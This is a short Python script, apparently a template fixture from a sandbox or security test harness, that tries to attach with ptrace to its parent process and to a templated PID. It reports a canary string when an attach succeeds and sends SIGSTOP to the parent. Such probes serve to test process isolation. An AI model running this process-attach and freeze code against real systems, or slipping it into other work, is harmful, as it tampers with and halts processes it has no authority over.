"""Attacks its parent: by ptrace."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
for pid in (os.getppid(), @PID@):
    if libc.ptrace(16, pid, 0, 0) == 0:
        tell("CANARY-HIDDEN" "-9b27 is at hand: attached")
if not LOOT:
    os.kill(os.getppid(), 19)
